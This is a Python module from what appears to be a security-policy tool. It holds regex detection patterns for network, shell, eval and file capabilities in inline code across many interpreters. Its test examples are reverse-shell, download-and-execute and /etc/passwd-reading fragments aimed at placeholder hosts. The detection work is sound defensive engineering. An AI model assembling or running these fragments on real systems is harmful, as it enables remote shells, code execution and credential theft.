"""What inline code in other languages can do: a table of each language's primitives.

Python is read with :mod:`ast` (:mod:`hazmat.policy.pyscan`). For the other interpreters
an agent can reach from a shell (perl, ruby, php, lua, node, julia, awk, tcl, R,
PowerShell, the JVM's script engines, go, zsh's modules, gdb and vim commands,
sqlite3 dot-commands, expect) this module keeps one :class:`Primitive` per language
primitive: which *kind* of capability it gives, a regex, and an example the regex must
match (checked when a policy loads, see :func:`verify_primitives`).

Kinds:

=========  ==================================================================
``socket`` opens a network connection (``IO::Socket::INET``, ``TCPSocket``, ``fsockopen``)
``listen`` accepts connections (``TCPServer``, ``stream_socket_server``, ``-server``)
``exec``   runs a program or a shell (``system``, ``exec``, ``IO.popen``, ``child_process``)
``dup``    wires a socket to the process's stdin/stdout (``open(STDIN,">&S")``)
``fetch``  reads a URL (``LWP::Simple``, ``open-uri``, ``file_get_contents("http``)
``eval``   runs a string as code (``eval``, ``loadstring``, ``new Function``, ``iex``)
``write``  writes a file (``file_put_contents``, ``File.write``, ``io.open(..,"w")``)
``read``   reads a file (``File.read``, ``readFileSync``, ``io.open(p)``)
``shell``  names a shell (``/bin/sh``, ``bash -i``, ``cmd.exe``) -- shared by all languages
=========  ==================================================================

:func:`code_capabilities` returns the kinds found in one piece of code (with the matched
text as evidence). A language's primitives are searched only when the code contains one
of the literals its patterns require (:class:`hazmat.policy.detectors._common.Gated`).
"""

from __future__ import annotations

import re
from dataclasses import dataclass

__all__ = [
    "LANG_OF",
    "PRIMITIVES",
    "Primitive",
    "code_capabilities",
    "verify_primitives",
]


@dataclass(frozen=True, slots=True)
class Primitive:
    """One language primitive: the capability it gives and how to spot it."""

    lang: str
    kind: str
    pattern: str
    example: str
    """A snippet the pattern must match (checked at policy load)."""
    not_example: str = ""
    """A snippet the pattern must not match (checked at policy load), when given."""


def _p(lang: str, kind: str, pattern: str, example: str, not_example: str = "") -> Primitive:
    if lang in _CASELESS:
        pattern = f"(?i:{pattern})"
    return Primitive(lang, kind, pattern, example, not_example)


_CASELESS = frozenset({"pwsh"})
"""Languages whose keywords are case-insensitive."""


PRIMITIVES: tuple[Primitive, ...] = (
    # shells named in code: every language
    _p("*", "shell", r"/bin/(?:ba|z|da|k|c|tc|a|fi)?sh\b|/usr/bin/(?:ba|z|da)?sh\b",
       'exec "/bin/sh -i"', "/bin/shadow"),
    _p("*", "shell", r"\b(?:ba|z|da|k)?sh\s+-i\b|[\"'`](?:ba|z|da|k)?sh[\"'`]|\bcmd(?:\.exe)?\s*/c\b|"
       r"\bpowershell(?:\.exe)?\b|\bpty\b|\bbash\b",
       "system('sh')", "show_hints()"),
    # perl
    _p("perl", "socket", r"IO::Socket(?:::(?:INET6?|IP|SSL|Socks))?|\bsocket\s*\(\s*\w+\s*,|"
       r"Net::Telnet|use\s+Socket\b",
       'use IO::Socket; $c=new IO::Socket::INET(PeerAddr,"h:1")', "print 'x'"),
    _p("perl", "listen", r"\bListen\s*=>|\blisten\s*\(|LocalPort\s*=>|\baccept\s*\(",
       "IO::Socket::INET->new(LocalPort=>4444,Listen=>1)"),
    _p("perl", "exec", r"\b(?:exec|system)\s*[\s({\"'$]|\bqx\s*[{(/|\[]|`[^`]+`|"
       r"open\s*\(?\s*\$?\w+\s*,\s*[\"']\s*\||open\s*\(?\s*\$?\w+\s*,\s*[\"'][^\"']*\|\s*[\"']",
       'system("id")', "print systematic"),
    _p("perl", "dup", r"open\s*\(\s*STD(?:IN|OUT|ERR)\s*,\s*[\"']?[<>+]*&|STDIN->fdopen",
       'open(STDIN,">&S");'),
    _p("perl", "fetch", r"LWP::(?:Simple|UserAgent)|HTTP::Tiny|\bget(?:store|print)?\s*\(\s*[\"']?(?:https?|ftp)"
       r"|Net::FTP|Mojo::UserAgent|File::Fetch",
       'use LWP::Simple; getstore("http://x/y","y")'),
    _p("perl", "eval", r"\beval\s*[\s({\"'$]|\bdo\s+[\"']", "eval(get($u))"),
    _p("perl", "write", r"open\s*\(?\s*\$?\w+\s*,\s*[\"']\s*>|\bgetstore\s*\(|\bmirror\s*\(",
       'open(F,">/tmp/x")'),
    _p("perl", "read", r"open\s*\(?\s*\$?\w+\s*,\s*[\"']\s*<?\s*[/~.\w]|\bslurp\b|File::Slurp",
       'open(F,"/etc/passwd")'),
    # ruby
    _p("ruby", "socket", r"\bTCPSocket\b|\bUDPSocket\b|\bSocket\.(?:new|tcp)\b|require\s*\(?\s*[\"']socket|"
       r"OpenSSL::SSL::SSLSocket",
       'TCPSocket.new("h",1)', "puts 1"),
    _p("ruby", "listen", r"\bTCPServer\b|\.accept\b|Socket\.tcp_server_loop|\bWEBrick\b|-run\b.*\bhttpd\b",
       "TCPServer.new(4444)"),
    _p("ruby", "exec", r"\b(?:exec|system|spawn)\s*[\s(\"'$]|IO\.popen|\bOpen3\b|%x\s*[({\[/|]|`[^`]+`|"
       r"Kernel\.(?:exec|system|spawn)|Process\.spawn|PTY\.spawn",
       'exec "/bin/sh"', "puts executive"),
    _p("ruby", "dup", r"\[\s*:in\s*,\s*:out|:in\s*=>\s*\w|STD(?:IN|OUT)\.reopen|\.reopen\s*\(\s*\w+\s*\)",
       "exec sprintf(\"/bin/sh -i <&%d >&%d\",f,f); spawn('sh',[:in,:out,:err]=>s)"),
    _p("ruby", "fetch", r"open-uri|URI\.open|Net::HTTP|URI\.parse\([^)]*\)\.read|\bHTTParty\b|\bFaraday\b|"
       r"\bRestClient\b|open\s*\(\s*[\"']https?:",
       "require 'open-uri'; URI.open('http://x').read"),
    _p("ruby", "eval", r"\b(?:instance_|class_|module_)?eval\s*[\s(]|Kernel\.eval|binding\.eval",
       "eval(Net::HTTP.get(URI('http://x')))"),
    _p("ruby", "write", r"File\.(?:write|binwrite)|File\.open\([^)]*[\"'][wa]|IO\.(?:write|copy_stream)",
       "File.write('x', d)"),
    _p("ruby", "read", r"File\.(?:read|binread|readlines|foreach)|IO\.read|File\.open\(\s*[\"'][/~]",
       "File.read('/etc/passwd')"),
    # php
    _p("php", "socket", r"\bp?fsockopen\s*\(|stream_socket_client|socket_(?:create|connect)\s*\(",
       '$s=fsockopen("h",1);', "$sock = 1;"),
    _p("php", "listen", r"stream_socket_server|socket_(?:bind|listen|accept)\s*\(|\s-S\s",
       'stream_socket_server("tcp://0.0.0.0:4444")'),
    _p("php", "exec", r"\b(?:exec|shell_exec|system|passthru|proc_open|popen|pcntl_exec)\s*\(|`[^`]+`",
       'shell_exec("id");', "executor()"),
    _p("php", "dup", r"<&3|>&3|descriptorspec|array\s*\(\s*0\s*=>\s*\$\w+", 'exec("/bin/sh -i <&3 >&3")'),
    _p("php", "fetch", r"(?:file_get_contents|fopen|file|readfile|copy)\s*\(\s*[\"'](?:https?|ftp)|"
       r"\bcurl_(?:init|exec)\b",
       "file_get_contents('http://x/a')"),
    _p("php", "eval", r"\beval\s*\(|\bassert\s*\(|create_function|\b(?:include|require)(?:_once)?\s*\(?\s*[\"'$]",
       "eval(file_get_contents('http://x'))"),
    _p("php", "write", r"file_put_contents|\bfwrite\s*\(|\bfputs\s*\(|\bcopy\s*\(", "file_put_contents('x',$d)"),
    _p("php", "read", r"(?:file_get_contents|readfile|fopen|file)\s*\(\s*[\"'][/~.]|\$_FILES",
       "file_get_contents('/etc/passwd')"),
    # lua
    _p("lua", "socket", r"require\s*\(?\s*[\"']socket|\bsocket\.(?:tcp|udp|connect)\b|:connect\s*\(",
       'local s=require("socket"); local t=socket.tcp()', "print(1)"),
    _p("lua", "listen", r"socket\.bind|:listen\s*\(|:accept\s*\(", "socket.bind('*',4444)"),
    _p("lua", "exec", r"\bos\.execute\b|\bio\.popen\b", "os.execute('id')"),
    _p("lua", "fetch", r"socket\.http|\bhttp\.request\b|ssl\.https", "require('socket.http').request('http://x')"),
    _p("lua", "eval", r"\bloadstring\b|\bload\s*\(|\bdofile\b", "loadstring(b)()"),
    _p("lua", "write", r"io\.open\([^)]*[\"'][wa]|:write\s*\(", "io.open('x','w'):write(b)"),
    _p("lua", "read", r"io\.open\(|io\.lines|io\.read", "io.open('/etc/passwd'):read('*a')"),
    # node / javascript
    _p("node", "socket", r"require\s*\(\s*[\"'](?:node:)?(?:net|tls|dgram)[\"']\s*\)|\bnet\.(?:Socket|connect|"
       r"createConnection)\b|new\s+(?:net\.)?Socket\b|\btls\.connect\b|\bWebSocket\s*\(|"
       r"\bDeno\.(?:connect|connectTls|listen)\b|\bBun\.(?:connect|listen)\b",
       'var net=require("net"); var c=new net.Socket();', "console.log(1)"),
    _p("node", "listen", r"\bcreateServer\b|\.listen\s*\(", "net.createServer(f).listen(4444)"),
    _p("node", "exec", r"child_process|\b(?:spawn|execSync|execFile|execFileSync|spawnSync)\s*\(|"
       r"\bexec\s*\(|process\.binding\s*\(\s*[\"']spawn|\bDeno\.(?:Command|run)\b|\bBun\.spawn(?:Sync)?\b",
       "require('child_process').exec('id')", "console.log(executed)"),
    _p("node", "dup", r"\.pipe\s*\(\s*\w+\.stdin\)|\.stdout\.pipe\s*\(|stdio\s*:\s*\[?\s*\w+",
       "c.pipe(sh.stdin); sh.stdout.pipe(c)"),
    _p("node", "fetch", r"\bhttps?\.(?:get|request)\s*\(|require\s*\(\s*[\"']https?[\"']\s*\)\s*\.(?:get|request)\b|\bfetch\s*\(\s*[\"'`]?(?:https?|\w)|\baxios\b|"
       r"\brequire\s*\(\s*[\"']request[\"']",
       "require('https').get('https://x/p', r=>{})"),
    _p("node", "eval", r"\beval\s*\(|new\s+Function\s*\(|\bFunction\s*\(|\bvm\.run\w*|"
       r"require\s*\(\s*[\"']vm[\"']",
       "eval(body)"),
    _p("node", "write", r"fs\.(?:writeFile|appendFile)\w*|createWriteStream", "fs.writeFileSync('x',d)"),
    _p("node", "read", r"fs\.readFile\w*|createReadStream|\.readFileSync\b", "fs.readFileSync('/etc/passwd')"),
    # julia
    _p("julia", "socket", r"\bSockets\b|\bconnect\s*\(\s*(?:ip\s*\"|\"|Sockets|[\w\"]+\s*,\s*\d)|\bTCPSocket\b",
       'using Sockets; c=connect("h",1)', "println(1)"),
    _p("julia", "listen", r"\blisten\s*\(|\baccept\s*\(", "s=listen(4444); c=accept(s)"),
    _p("julia", "exec", r"\brun\s*\(|\bpipeline\s*\(|\bopen\s*\(\s*`|`[^`]+`", "run(`id`)", "running"),
    _p("julia", "fetch", r"Downloads\.download|\bdownload\s*\(|HTTP\.(?:get|request)", 'download("http://x","y")'),
    _p("julia", "eval", r"\beval\s*\(|Meta\.parse|include_string|\binclude\s*\(", "eval(Meta.parse(s))"),
    _p("julia", "write", r"\bwrite\s*\(|open\([^)]*\"[wa]\"", 'write("x", d)'),
    _p("julia", "read", r"\bread\s*\(\s*\"|readlines\s*\(|\bopen\s*\(\s*\"/", 'read("/etc/passwd", String)'),
    # awk
    _p("awk", "socket", r"/inet[46]?/(?:tcp|udp)/", 's="/inet/tcp/0/10.0.0.1/4444"'),
    _p("awk", "listen", r"/inet[46]?/tcp/[1-9]\d*/0/0", 's="/inet/tcp/4444/0/0"'),
    _p("awk", "exec", r"\bsystem\s*\(|\|\s*getline|\|&|print[^|\n]*\|\s*[\"']", "while ((c |& getline) > 0)"),
    _p("awk", "read", r"getline\s*(?:\w+\s*)?<\s*[\"']?/", 'getline line < "/etc/passwd"'),
    _p("awk", "write", r"print[^>\n]*>\s*[\"']?/", 'print $0 > "/tmp/x"'),
    # tcl
    _p("tcl", "socket", r"\bsocket\s+(?!-server)[\w$.\"-]+\s+[\w$]+", "set s [socket 10.0.0.1 4444]"),
    _p("tcl", "listen", r"\bsocket\s+-server\b", "socket -server accept 4444"),
    _p("tcl", "exec", r"\bexec\s+|\bopen\s+\"?\|", "exec /bin/sh"),
    _p("tcl", "fetch", r"http::geturl|package\s+require\s+http", "http::geturl http://x"),
    _p("tcl", "eval", r"\beval\s+|\buplevel\b", "eval $c"),
    _p("tcl", "write", r"open\s+\S+\s+[wa]\b", "set f [open /tmp/x w]"),
    _p("tcl", "read", r"open\s+/\S+", "set f [open /etc/passwd]"),
    # PowerShell
    _p("pwsh", "socket", r"Net\.Sockets\.TCPClient|System\.Net\.Sockets|\bTcpClient\b|Net\.Sockets\.UdpClient",
       "$c=New-Object Net.Sockets.TCPClient('h',1)"),
    _p("pwsh", "listen", r"\bTcpListener\b|\bHttpListener\b", "[Net.Sockets.TcpListener]4444"),
    _p("pwsh", "exec", r"\biex\b|Invoke-Expression|Start-Process|Invoke-Command|Diagnostics\.Process|\bcmd(?:\.exe)?\s*/c",
       "iex $d"),
    _p("pwsh", "fetch", r"Invoke-WebRequest|\biwr\b|Invoke-RestMethod|\birm\b|Download(?:String|File|Data)|"
       r"Net\.WebClient|Start-BitsTransfer",
       "(New-Object Net.WebClient).DownloadString('http://x')"),
    _p("pwsh", "eval", r"\biex\b|Invoke-Expression|ScriptBlock\]::Create", "IEX (iwr http://x)"),
    _p("pwsh", "write", r"Out-File|Set-Content|Add-Content|DownloadFile|WriteAll(?:Bytes|Text)", "Set-Content x $d"),
    _p("pwsh", "read", r"Get-Content|ReadAll(?:Bytes|Text)", "Get-Content /etc/passwd"),
    # R
    _p("r", "socket", r"socketConnection|make\.socket|\bsocketAccept\b", 'socketConnection(host="h",port=1)'),
    _p("r", "listen", r"server\s*=\s*TRUE|serverSocket|startServer|socketAccept", "socketConnection(port=4444,server=TRUE)"),
    _p("r", "exec", r"\bsystem2?\s*\(|\bpipe\s*\(|\bshell\s*\(", 'system("id")'),
    _p("r", "fetch", r"download\.file|\burl\s*\(\s*[\"']https?|readLines\s*\(\s*[\"']https?|httr::|curl::|"
       r"source\s*\(\s*[\"']https?",
       'download.file("http://x","y")'),
    _p("r", "eval", r"eval\s*\(\s*parse|source\s*\(\s*[\"']https?", "eval(parse(text=b))"),
    _p("r", "write", r"writeLines|writeBin|download\.file|\bsink\s*\(", "writeLines(d,'x')"),
    _p("r", "read", r"readLines\s*\(\s*[\"']/|readBin|read\.(?:csv|table)\s*\(\s*[\"']/", 'readLines("/etc/passwd")'),
    # JVM script engines (jrunscript, jjs, groovy)
    _p("jvm", "socket", r"java\.net\.Socket|new\s+Socket\s*\(|\bSocket\s*\(", 'new java.net.Socket("h",1)'),
    _p("jvm", "listen", r"ServerSocket", "new java.net.ServerSocket(4444)"),
    _p("jvm", "exec", r"Runtime\.getRuntime\(\)\.exec|ProcessBuilder|[\"']\s*\.execute\s*\(|\.execute\(\)",
       "java.lang.Runtime.getRuntime().exec('id')"),
    _p("jvm", "fetch", r"java\.net\.URL|new\s+URL\s*\(|\.openStream\s*\(|\.toURL\(\)\.text|HttpClient|"
       r"\bload\s*\(\s*[\"']https?",
       "new java.net.URL('http://x').openStream()"),
    _p("jvm", "eval", r"ScriptEngine|\beval\s*\(|\bevaluate\s*\(|GroovyShell|\bload\s*\(\s*[\"']https?",
       "load('http://x/a.js')"),
    _p("jvm", "write", r"FileOutputStream|Files\.(?:copy|write)|FileWriter", "new FileOutputStream('x')"),
    _p("jvm", "read", r"FileInputStream|Files\.read|FileReader|new\s+File\s*\(\s*[\"']/", "new FileReader('/etc/passwd')"),
    # Erlang VM (elixir, erl)
    _p("beam", "socket", r":?gen_tcp[.:]connect|:?ssl[.:]connect|:?gen_udp[.:]open", ':gen_tcp.connect(~c"h", 1, [])'),
    _p("beam", "listen", r":?gen_tcp[.:](?:listen|accept)", ":gen_tcp.listen(4444, [])"),
    _p("beam", "exec", r"System\.cmd|System\.shell|:?os[.:]cmd|Port\.open|open_port", 'System.cmd("sh", ["-c", c])'),
    _p("beam", "fetch", r":?httpc[.:]request|HTTPoison|Req\.get", ":httpc.request(url)"),
    _p("beam", "eval", r"Code\.eval_string|Code\.compile_string|erl_eval", "Code.eval_string(b)"),
    _p("beam", "read", r"File\.read|file:read_file", 'File.read!("/etc/passwd")'),
    # go
    _p("go", "socket", r"\bnet\.Dial\w*|\bDialTCP\b", 'c,_:=net.Dial("tcp","h:1")'),
    _p("go", "listen", r"\bnet\.Listen\w*|ListenAndServe", 'net.Listen("tcp",":4444")'),
    _p("go", "exec", r"exec\.Command|syscall\.Exec", 'exec.Command("/bin/sh")'),
    _p("go", "dup", r"\.Std(?:in|out|err)\s*=\s*\w+", "cmd.Stdin=c"),
    _p("go", "fetch", r"\bhttp\.(?:Get|Post|NewRequest)\b", 'http.Get("http://x")'),
    _p("go", "write", r"os\.(?:WriteFile|Create)|ioutil\.WriteFile", 'os.WriteFile("x",b,0755)'),
    # zsh modules
    _p("zsh", "socket", r"\bztcp\b(?!\s+-l)|zmodload\s+zsh/net/(?:tcp|socket)|\bzsocket\b", "zmodload zsh/net/tcp; ztcp h 1"),
    _p("zsh", "listen", r"\bztcp\s+-l\b", "ztcp -l 4444"),
    _p("zsh", "exec", r"\bzsh\b.*&\$REPLY|\$REPLY\b", "zsh >&$REPLY 2>&$REPLY 0>&$REPLY"),
    # debuggers, editors, databases and expect: commands that run a shell
    _p("gdb", "exec", r"(?:^|\s|;)!\s*\S|\bshell\b|\bpython\b.*\b(?:os\.system|pty|subprocess|os\.exec)",
       "!/bin/sh"),
    _p("vim", "exec", r":?!\s*\S|:?\bsh(?:ell)?\b|\bterminal\b|\bsystem\s*\(|\bpy(?:thon)?3?\b.*\b(?:os\.|pty)|"
       r"\blua\b.*os\.execute",
       ":!/bin/sh"),
    _p("sqlite", "exec", r"\.(?:shell|system)\b|load_extension", ".shell id"),
    _p("expect", "exec", r"\bspawn\b|\bexec\b", "spawn /bin/sh"),
)  # fmt: skip

LANG_OF: dict[str, str] = {
    "perl": "perl", "ruby": "ruby", "irb": "ruby", "php": "php", "lua": "lua", "luajit": "lua",
    "node": "node", "nodejs": "node", "deno": "node", "bun": "node", "julia": "julia",
    "awk": "awk", "gawk": "awk", "mawk": "awk", "nawk": "awk", "tclsh": "tcl", "wish": "tcl",
    "expect": "expect", "pwsh": "pwsh", "powershell": "pwsh", "rscript": "r", "r": "r",
    "jrunscript": "jvm", "jjs": "jvm", "groovy": "jvm", "go": "go", "zsh": "zsh",
    "gdb": "gdb", "vim": "vim", "vi": "vim", "nvim": "vim", "ex": "vim", "rvim": "vim",
    "sqlite3": "sqlite", "elixir": "beam", "erl": "beam", "iex": "beam", "text": "*",
}  # fmt: skip
"""Interpreter (as in :attr:`Cmd.name`) -> language of :data:`PRIMITIVES`."""

_COMPILED: dict[str, list[tuple[str, re.Pattern[str]]]] = {}


def _compiled(lang: str) -> list[tuple[str, re.Pattern[str]]]:
    got = _COMPILED.get(lang)
    if got is None:
        if lang == "*":
            wanted = list(PRIMITIVES)
        else:
            wanted = [p for p in PRIMITIVES if p.lang in (lang, "*")]
        pats: dict[str, list[str]] = {}
        for p in wanted:
            pats.setdefault(p.kind, []).append(f"(?:{p.pattern})")
        got = [(k, re.compile("|".join(v))) for k, v in pats.items()]
        _COMPILED[lang] = got
    return got


def code_capabilities(lang: str, code: str) -> dict[str, str]:
    """Kinds of capability ``code`` (in ``lang``: an interpreter name or a language of the
    table; unknown names use every language's primitives) uses: kind -> matched text."""
    out: dict[str, str] = {}
    key = LANG_OF.get(lang, lang if any(p.lang == lang for p in PRIMITIVES) else "*")
    for kind, rx in _compiled(key):
        m = rx.search(code)
        if m:
            out[kind] = m.group(0)[:80]
    return out


def verify_primitives() -> list[str]:
    """Check every primitive against its examples; one line per failure."""
    fails: list[str] = []
    for p in PRIMITIVES:
        try:
            rx = re.compile(p.pattern)
        except re.error as exc:
            fails.append(f"primitive {p.lang}/{p.kind}: bad regex: {exc}")
            continue
        if not rx.search(p.example):
            fails.append(f"primitive {p.lang}/{p.kind} {p.pattern[:40]!r}: misses {p.example!r}")
        if p.not_example and rx.search(p.not_example):
            fails.append(
                f"primitive {p.lang}/{p.kind} {p.pattern[:40]!r}: matches {p.not_example!r}"
            )
    return fails
